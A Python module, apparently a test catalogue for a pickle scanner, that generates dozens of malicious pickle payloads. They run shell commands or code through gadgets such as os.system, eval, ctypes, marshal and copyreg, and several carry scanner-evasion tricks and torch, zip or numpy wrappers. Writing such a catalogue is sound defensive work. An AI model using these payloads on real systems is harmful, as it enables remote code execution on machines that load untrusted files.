"""The pickles of the catalogue that need more than one call, or a file around them. See `pickle_rows`."""

from __future__ import annotations

import io
import marshal
import pickle
import zipfile
from collections.abc import Callable

from confine.pickles import (
    Aim,
    build,
    call,
    calls,
    line,
    name,
    newobj,
    obj,
    old_name,
    reduce,
    string,
    text,
    value,
    whole,
)


def attributes_by_memo(aim: Aim) -> bytes:
    """__import__, then getattr on what it gave; both go through the memo."""
    module = old_name("builtins", "__import__") + string("os") + b"\x85Rp0\n0"
    function = old_name("builtins", "getattr") + b"g0\n" + string("system") + b"\x86Rp1\n0"
    return whole(module + function + b"g1\n" + string(aim.shell) + b"\x85R", protocol=0)


def operator(maker: str, *, called_with: bool) -> Callable[[Aim], bytes]:
    def make(aim: Aim) -> bytes:
        module = old_name("builtins", "__import__") + b"(" + line("os") + b"tRp0\n0"
        words = line("system") + (line(aim.shell) if called_with else b"")
        function = old_name("operator", maker) + b"(" + words + b"tR(g0\ntR"
        return whole(module + function + (b"" if called_with else b"(" + line(aim.shell) + b"tR"), protocol=0)

    return make


def attrgetter(aim: Aim) -> bytes:
    getter = call("operator", "attrgetter", "system")
    return whole(reduce(reduce(getter, call("builtins", "__import__", "os")), value(aim.shell)))


def methodcaller(aim: Aim) -> bytes:
    return whole(reduce(call("operator", "methodcaller", "system", aim.shell), call("pydoc", "locate", "os")))


def found(module: str, function: str, word: str) -> Callable[[Aim], bytes]:
    """Something that turns a word into a function, which is then called."""
    return lambda aim: whole(reduce(call(module, function, word), value(aim.shell)))


def imported(aim: Aim) -> bytes:
    module = call("importlib", "import_module", "os")
    return whole(reduce(reduce(name("builtins", "getattr"), module, value("system")), value(aim.shell)))


def compiled(aim: Aim) -> bytes:
    """globals, compile and eval of protocol 0, with memo numbers chosen freely."""
    names = old_name("__builtin__", "globals") + b"(tRp100\n0"
    compiled = old_name("__builtin__", "compile") + b"(" + string(aim.code) + string("") + string("exec")
    run = old_name("__builtin__", "eval") + b"(g101\ng100\ntR"
    return whole(names + compiled + b"tRp101\n0" + run, protocol=0)


def libc(aim: Aim) -> bytes:
    library = call("ctypes", "CDLL", None)
    return whole(
        reduce(reduce(name("builtins", "getattr"), library, value("system")), value(aim.shell.encode()))
    )


def marshalled(aim: Aim) -> bytes:
    code = call("marshal", "loads", marshal.dumps(compile(aim.code, "", "exec")))
    return whole(reduce(reduce(name("types", "FunctionType"), code, _globals())))


def _globals() -> bytes:
    return b"}" + value("__builtins__") + reduce(name("builtins", "__import__"), value("builtins")) + b"s"


def code_object(aim: Aim) -> bytes:
    code = compile(aim.code, "", "exec")
    parts = (
        *(code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount, code.co_nlocals),
        *(code.co_stacksize, code.co_flags, code.co_code, code.co_consts, code.co_names, code.co_varnames),
        *(code.co_filename, code.co_name, code.co_qualname, code.co_firstlineno, code.co_linetable),
        *(code.co_exceptiontable, code.co_freevars, code.co_cellvars),
    )
    made = call("types", "CodeType", *parts)
    return whole(reduce(reduce(name("types", "FunctionType"), made, _globals())))


def partial(aim: Aim) -> bytes:
    """A partial of something harmless, whose state is replaced by something else."""
    harmless = reduce(name("functools", "partial"), name("builtins", "len"))
    state = b"(" + name("os", "system") + value((aim.shell,)) + b"}Nt"
    return whole(reduce(build(harmless, state)))


def interpreter(method: str) -> Callable[[Aim], bytes]:
    def make(aim: Aim) -> bytes:
        bound = reduce(
            name("builtins", "getattr"), reduce(name("code", "InteractiveInterpreter")), value(method)
        )
        return whole(reduce(bound, value(aim.code)))

    return make


def debugger(aim: Aim) -> bytes:
    state = {"skip": None, "breaks": {}, "fncache": {}, "frame_returning": None}
    made = build(newobj(name("bdb", "Bdb")), value(state))
    return whole(reduce(name("bdb", "Bdb.run"), made, value(f"import os\nos.system({aim.shell!r})")))


def on_new(module: str, kind: str, method: str, *more: object) -> Callable[[Aim], bytes]:
    """A method, by its dotted name, on an object that is made for it."""

    def make(aim: Aim) -> bytes:
        made = reduce(name(module, kind))
        return whole(reduce(name(module, f"{kind}.{method}"), made, value(aim.code), *map(value, more)))

    return make


def grammar_label(aim: Aim) -> bytes:
    made = reduce(name("lib2to3.pgen2.grammar", "Grammar"))
    expression = value(f'""+str({aim.code})')
    return whole(
        reduce(name("lib2to3.pgen2.pgen", "ParserGenerator.make_label"), value(None), made, expression)
    )


def grammar(aim: Aim) -> bytes:
    made = reduce(name("lib2to3.pgen2.grammar", "Grammar"))
    inner = value(calls("os", "system", lambda aim: (aim.shell,))(aim))
    return whole(reduce(name("lib2to3.pgen2.grammar", "Grammar.loads"), made, inner))


def nested_as_text(aim: Aim) -> bytes:
    inner = whole(old_name("os", "system") + b"(" + line(aim.shell) + b"tR", protocol=0).decode()
    words = line(inner.replace("\n", "\\u000a")) + line("latin1")
    encoded = old_name("_codecs", "encode") + b"(" + words + b"tR"
    return whole(old_name("pickle", "loads") + b"(" + encoded + b"tR", protocol=0)


def nested(aim: Aim) -> bytes:
    return whole(call("_pickle", "loads", calls("os", "system", lambda aim: (aim.shell,))(aim)))


def decoyed(aim: Aim) -> bytes:
    """Words that are put into the memo and dropped; the name is taken from among them."""
    words = b"".join(
        line(word) + f"p{number}\n0".encode()
        for number, word in enumerate(("torch", "LongStorage", "os", "system"))
    )
    return whole(words + b"g2\ng3\n\x93(" + line(aim.shell) + b"tR")


def same_word(aim: Aim) -> bytes:
    """Module and function are one word, taken twice from the memo."""
    function = text("timeit") + b"\x940h\x00h\x00\x93"
    return whole(reduce(function, value("pass"), value(aim.code)))


def words_of_a_module(aim: Aim) -> bytes:
    """BUILD changes an attribute of a module to a word; the words then name the function."""
    module = name("json", "decoder")
    attribute = name("json.decoder", "JSONDecoder")
    first = build(module, value({"JSONDecoder": "builtins"})) + b"0" + attribute
    second = build(module, value({"JSONDecoder": "eval"})) + b"0" + attribute
    return whole(reduce(first + second + b"\x93", value(aim.code)))


def then_a_missing_memo(aim: Aim) -> bytes:
    done = old_name("os", "system") + line(aim.shell) + b"\x85R0"
    return whole(done + text("os") + b"h\x03h\x00\x93K\x42")


def then_a_number_for_a_name(aim: Aim) -> bytes:
    done = old_name("os", "system") + line(aim.shell) + b"\x85R0"
    return whole(done + b"J\x2a\x00\x00\x00\x94" + text("os") + b"\x94h\x00h\x01\x93K\x42")


def second_in_the_stream(aim: Aim) -> bytes:
    return pickle.dumps(["a", "b", "c"], 4) + calls("os", "system", lambda aim: (aim.shell,))(aim)


def torch_of_old(aim: Aim) -> bytes:
    """Magic number, version and machine come as pickles of their own, then the model."""
    head = (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})
    return b"".join(pickle.dumps(part, 2) for part in head) + second_in_the_stream(aim)


def zipped(member: str) -> Callable[[Aim], bytes]:
    def make(aim: Aim) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr(member, calls("builtins", "exec", lambda aim: (aim.code,))(aim))
            archive.writestr(member.replace("data.pkl", "version"), "3\n")
        return buffer.getvalue()

    return make


def numpy_objects(aim: Aim) -> bytes:
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    head += b" " * (64 - (10 + len(head) + 1) % 64) + b"\n"
    body = calls("builtins", "exec", lambda aim: (aim.code,))(aim)
    return b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + body


def packed(pack: Callable[[bytes], bytes]) -> Callable[[Aim], bytes]:
    return lambda aim: pack(calls("posix", "system", lambda aim: (aim.shell,))(aim))


def discarded_object(aim: Aim) -> bytes:
    return whole(obj(name("smtplib", "SMTP"), value("127.0.0.1"), value(aim.port)) + b"0N")


def mail(module: str, kind: str) -> Callable[[Aim], bytes]:
    def make(aim: Aim) -> bytes:
        made = reduce(old_name(module, kind), value("127.0.0.1"), value(aim.port))
        return whole(build(made, b"}"))

    return make


def asks_by_http(aim: Aim) -> bytes:
    made = reduce(old_name("httplib", "HTTPConnection"), value("127.0.0.1"), value(aim.port))
    ask = reduce(old_name("__builtin__", "getattr"), made, value("request"))
    return whole(reduce(ask, value("GET"), value("/")), protocol=2)


def connects(aim: Aim) -> bytes:
    made = reduce(name("ftplib", "FTP"))
    return whole(reduce(name("ftplib", "FTP.connect"), made, value("127.0.0.1"), value(aim.port)))


def by_extension(aim: Aim) -> bytes:
    """A name that is registered under a number, and then called by it."""
    register = call("copyreg", "add_extension", "os", "system", 0x77) + b"0"
    return whole(register + b"\x82\x77" + value(aim.shell) + b"\x85R")


def browser(aim: Aim) -> bytes:
    made = call("webbrowser", "GenericBrowser", ["touch", aim.canary])
    return whole(reduce(name("webbrowser", "GenericBrowser.open"), made, value("x")))
